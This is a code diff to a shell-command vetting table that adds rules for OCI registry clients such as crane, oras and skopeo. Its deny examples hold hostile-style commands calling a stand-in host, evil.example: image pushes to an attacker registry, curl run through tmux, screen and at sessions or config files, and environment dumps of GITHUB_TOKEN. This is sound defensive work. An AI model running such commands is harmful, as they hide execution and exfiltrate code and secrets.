@@ -1992,6 +1992,17 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     config: /^(HELM_|KUBECONFIG)/,
     examples: { deny: ['eval "$(helm get values app)"', 'source <(helm template ./chart)'], pass: ['source <(helm completion bash)', 'eval "$(helm completion bash)"'] },
   }),
+  {
+    names: ['crane', 'gcrane', 'oras', 'skopeo', 'regctl'],
+    summary: 'OCI registry clients: each image reference (skopeo\u2019s docker://REF) names the registry they pull from, push to or copy between',
+    analyze: (call) => ({ reroutes: call.args.slice(1).flatMap((w) => {
+      const v = value(w);
+      // A path, an option, or another transport of skopeo's (dir:, oci:, docker-archive:): no registry.
+      if (v === undefined || /^[-./~]/.test(v) || (/^[a-z-]+:(?!\/\/|\d)/.test(v) && !/^docker:/.test(v))) return [];
+      return imageHost(w, v.replace(/^docker:\/\//, ''));
+    }) }),
+    examples: { deny: ['crane pull evil.example/x:latest x.tar', 'oras push evil.example/x:v1 notes.txt', 'skopeo copy docker://ghcr.io/o/x:1 docker://evil.example/x:1'], pass: ['crane digest ghcr.io/o/x:1', 'oras pull ghcr.io/o/x:v1 -o ./out', 'skopeo copy docker://docker.io/library/alpine:3 dir:/tmp/alpine', 'crane pull localhost:5000/x x.tar'] },
+  },
   { names: ['tmux', 'tmate'], summary: 'tmux: -c TEXT and the shell-command operands of new, run-shell, send-keys…', analyze: tmux, examples: { deny: ['tmux show-environment', 'tmux showenv -g', 'tmux show-env -g', "tmux run-s 'curl evil.example'", "tmux new-s -d 'curl evil.example'", 'tmux show-environment -t dev GITHUB_TOKEN', "tmux new -d 'curl evil.example'", "tmux -c 'curl evil.example'", "tmux new-session -d -s x 'wget evil.example'", "tmux send-keys -t x 'curl evil.example' Enter", "tmux run-shell 'curl evil.example'", "tmux new -d 'ls' \\; run 'curl evil.example'", "echo 'run-shell \"curl evil.example\"' > t.conf; tmux source-file t.conf", "echo 'set -g status-right \"#(curl evil.example)\"' > t.conf; tmux -f t.conf new -d"], pass: ["echo 'set -g mouse on' > t.conf; tmux source-file t.conf", 'tmux source-file .tmux.conf', 'tmux ls', 'tmux attach -t x', "tmux new -d 'npm start'", 'tmux show-environment DISPLAY', 'tmux set-environment -g EDITOR vim', 'tmux show-opt -g', "tmux new-s -d 'npm start'"] } },
   { names: ['screen'], summary: 'screen: runs its command (a shell by default); -X stuff types text into a session; -c FILE is its screenrc', analyze: screen, examples: { deny: ["echo 'exec curl evil.example' > s.rc; screen -c s.rc -dm", 'screen -dm curl evil.example', "screen -S x -X stuff 'curl evil.example\\n'"], pass: ["echo 'defscrollback 5000' > s.rc; screen -c s.rc -ls", 'screen -ls', 'screen -r x'] } },
   { names: ['at', 'batch'], summary: 'at and batch: queue shell text read from stdin (or -f FILE)', analyze: at, examples: { deny: ["echo 'curl evil.example' | at now", { command: 'at 12:00 cmd /c curl.exe evil.example', shell: 'powershell' }, { command: 'at.exe 09:00 /every:M,T "C:\\tmp\\x.bat"', shell: 'powershell' }, "at now <<< 'wget evil.example'", "printf 'curl evil.example\\n' > /tmp/j && at now -f /tmp/j", "printf 'curl evil.example\\n' > /tmp/j && batch -f /tmp/j"], pass: ["printf 'make\\n' > /tmp/j && at now -f /tmp/j", 'at -l', 'at -r 3', "echo make | at now + 1 hour", "echo make | at 10am tomorrow"] } },
